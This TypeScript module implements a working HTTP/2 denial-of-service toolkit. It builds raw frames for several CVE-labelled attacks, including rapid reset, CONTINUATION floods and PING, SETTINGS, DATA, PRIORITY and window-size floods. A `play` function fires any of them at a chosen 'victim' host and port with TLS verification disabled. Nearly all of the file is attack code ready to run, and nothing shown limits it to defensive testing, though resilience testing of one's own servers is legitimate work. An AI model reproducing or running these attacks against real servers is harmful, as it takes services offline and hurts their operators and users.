/** HTTP/2 frames as no honest client sends them (RFC 9113), over TLS. */
import { once } from 'node:events';
import { connect } from 'node:tls';

const preface = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n');
const types = { data: 0, headers: 1, priority: 2, reset: 3, settings: 4, ping: 6, windowUpdate: 8, continuation: 9 } as const;

/** A POST to `/` of the authority `x`, by HPACK's static table (RFC 7541, appendix A). */
const post = Buffer.from([0x83, 0x87, 0x84, 0x41, 0x01, 0x78]);

function frame(type: keyof typeof types, flags: number, stream: number, payload: Buffer = Buffer.alloc(0)): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head.writeUInt8(types[type], 3);
  head.writeUInt8(flags, 4);
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

function number(value: number): Buffer {
  const bytes = Buffer.alloc(4);
  bytes.writeUInt32BE(value);
  return bytes;
}

const endHeaders = 4;

/** Each trick makes what is written again and again; `round` counts from 0. */
export const tricks: Readonly<Record<string, (round: number) => Buffer>> = {
  'rapid reset (CVE-2023-44487)': (round) => {
    const stream = 2 * round + 1;
    return Buffer.concat([frame('headers', endHeaders, stream, post), frame('reset', 0, stream, number(8))]);
  },
  'endless CONTINUATION (CVE-2024-27983)': (round) =>
    round === 0
      ? frame('headers', 0, 1, post)
      : frame('continuation', 0, 1, Buffer.concat([Buffer.from([0x00, 0x01, 0x61, 0x7f, 0x81, 0x7f]), Buffer.alloc(256, 0x61)])),
  'PING flood (CVE-2019-9512)': () => frame('ping', 0, 0, Buffer.alloc(8)),
  'SETTINGS flood (CVE-2019-9515)': () => frame('settings', 0, 0),
  'empty DATA flood (CVE-2019-9518)': (round) => (round === 0 ? frame('headers', endHeaders, 1, post) : frame('data', 0, 1)),
  'PRIORITY loop (CVE-2019-9513)': (round) => frame('priority', 0, 1, Buffer.concat([number(2 * (round % 50) + 3), Buffer.from([round % 256])])),
  'window of one byte (CVE-2019-9517)': (round) =>
    round === 0 ? frame('settings', 0, 0, Buffer.concat([Buffer.from([0, 4]), number(1)])) : frame('headers', endHeaders, 2 * round + 1, post),
};

/** Where a trick is played. */
export interface Victim {
  readonly host: string;
  readonly port: number;
}

/** Plays a trick on the port until so many rounds are written, or the server has ended the connection. Resolves with the rounds that were written. */
export async function play(trick: (round: number) => Buffer, victim: Victim, rounds: number): Promise<number> {
  const socket = connect({ ...victim, ALPNProtocols: ['h2'], rejectUnauthorized: false });
  socket.on('error', () => undefined);
  socket.resume();
  const closed = new Promise((resolve) => socket.once('close', resolve));
  await Promise.race([once(socket, 'secureConnect').catch(() => undefined), closed]);
  socket.write(Buffer.concat([preface, frame('settings', 0, 0)]));
  let round = 0;
  for (; round < rounds && !socket.destroyed; round += batch) {
    const bytes = Buffer.concat(Array.from({ length: batch }, (_, index) => trick(round + index)));
    if (!socket.write(bytes)) await Promise.race([new Promise((resolve) => socket.once('drain', resolve)), closed]);
  }
  socket.destroy();
  return round;
}

const batch = 100;
